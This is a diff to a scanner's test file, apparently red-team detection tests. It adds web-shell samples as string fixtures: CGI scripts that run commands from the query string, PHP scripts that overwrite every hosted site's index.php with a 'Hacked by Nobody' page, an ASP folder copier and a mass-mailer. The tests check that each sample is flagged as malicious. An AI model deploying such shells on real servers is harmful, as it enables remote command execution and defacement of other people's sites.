@@ -23,6 +23,9 @@ const LOOKALIKES: [string, string][] = [
 ];
 
 const VARIANTS: [string, string][] = [
+  ["asp-copier-trim.asp", "<%\nIf Request.QueryString(\"CopyFolder\") <> \"\" Then\n  Set FSO = CreateObject(\"Scripting.FileSystemObject\")\n  FSO.CopyFolder Trim(Request.QueryString(\"CopyFolder\")) & \"*\", \"e:\\stage\\\"\nEnd If\nSet FS = Server.CreateObject(\"Scripting.FileSystemObject\")\nFor Each D In FS.Drives\n  Response.Write \"<option>\" & D.DriveLetter & \":</option>\"\nNext\n%>\n"],
+  ["deface-bang-decor.php", "<?php\n$root = \"/home/u1/domains/\";\n$page = \"<html><body><center><h1>[+] Hacked by Nobody [+]</h1></center></body></html>\";\nforeach (scandir($root) as $d) {\n  if ($d[0] === \".\") continue;\n  file_put_contents($root . $d . \"/public_html/index.php\", $page);\n}\n"],
+  ["deface-recursive-iter.php", "<?php\n$page = \"<html><body><h1>Hacked by Nobody</h1></body></html>\";\nforeach (new RecursiveDirectoryIterator(\"/var/www/vhosts/\", FilesystemIterator::SKIP_DOTS) as $d) {\n  if (!$d->isDir()) continue;\n  @file_put_contents($d->getPathname() . \"/httpdocs/index.php\", $page);\n}\n"],
   ["deface-skip-done.php", "<?php\n$root = \"/home/u1/domains/\";\n$page = \"<html><body><center><h1>Hacked by Nobody</h1></center></body></html>\";\nforeach (scandir($root) as $d) {\n  if ($d[0] === \".\") continue;\n  $t = $root . $d . \"/public_html/index.php\";\n  if (stripos(@file_get_contents($t), \"hacked by nobody\") !== false) continue;\n  file_put_contents($t, $page);\n}\n"],
   ["mail-null-body.php", "<?php\n$message = $_POST['message']; $list = $_POST['emaillist']; $subject = $_POST['subject']; $from = $_POST['from'];\n$all = split(\"\\n\", $list);\nfor ($x = 0; $x < count($all); $x++) {\n  $to = ereg_replace(\" \", \"\", $all[$x]);\n  $header = \"From: $from\\r\\nMIME-Version: 1.0\\r\\n\\r\\n\";\n  $header .= \"$message\\r\\n\";\n  mail($to, $subject, null, $header);\n}\n"],
   ["rb-proxy-cmd.rb", "#!/usr/bin/ruby\nprint \"Content-Type: text/plain\\r\\n\\r\\n\"\nc = ENV[\"HTTP_PROXY_CMD\"].to_s\nsystem(c)\n"],
@@ -31,6 +34,11 @@ const VARIANTS: [string, string][] = [
   ["sh-eval-prefix.cgi", "#!/bin/sh\necho \"Content-type: text/plain\"\necho\nC=$(echo \"$QUERY_STRING\" | sed \"s/c=//\")\neval \"_$C\"\n"],
   ["sh-func-shift.cgi", "#!/bin/sh\necho \"Content-type: text/plain\"\necho\nrun() {\n  shift\n  \"$@\" 2>&1\n}\nC=$(echo \"$QUERY_STRING\" | sed \"s/c=//\")\nrun -- $C\n"],
   ["sh-loop-done-word.cgi", "#!/bin/sh\necho \"Content-type: text/plain\"\necho\nfor c in $(echo \"$QUERY_STRING\" | tr \"&\" \" \"); do\n  state=done\n  $c 2>&1\ndone\n"],
+  ["sh-mksh.cgi", "#!/bin/sh\necho \"Content-type: text/plain\"\necho\nC=$(echo \"$QUERY_STRING\" | sed \"s/c=//\")\nmksh -c \"$C\" 2>&1\n"],
+  ["sh-shell-default.cgi", "#!/bin/sh\necho \"Content-type: text/plain\"\necho\nC=$(echo \"$QUERY_STRING\" | sed \"s/c=//\")\n${SHELL:-/bin/sh} -c \"$C\" 2>&1\n"],
+  ["sh-shell-quoted.cgi", "#!/bin/sh\necho \"Content-type: text/plain\"\necho\nC=$(echo \"$QUERY_STRING\" | sed \"s/c=//\")\n\"$SHELL\" -c \"$C\" 2>&1\n"],
+  ["sh-stdbuf.cgi", "#!/bin/sh\necho \"Content-type: text/plain\"\necho\nC=$(echo \"$QUERY_STRING\" | sed \"s/c=//\")\nstdbuf -oL $C 2>&1\n"],
+  ["sh-time-p.cgi", "#!/bin/bash\necho \"Content-type: text/plain\"\necho\nC=$(echo \"$QUERY_STRING\" | sed \"s/c=//\")\ntime -p $C 2>&1\n"],
 ];
 
 describe('scan: red team S41B', () => {
@@ -47,5 +55,5 @@ describe('scan: red team S41B', () => {
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every variant', () => assert.equal(VARIANTS.length, 8));
+  it('ran every variant', () => assert.equal(VARIANTS.length, 16));
 });
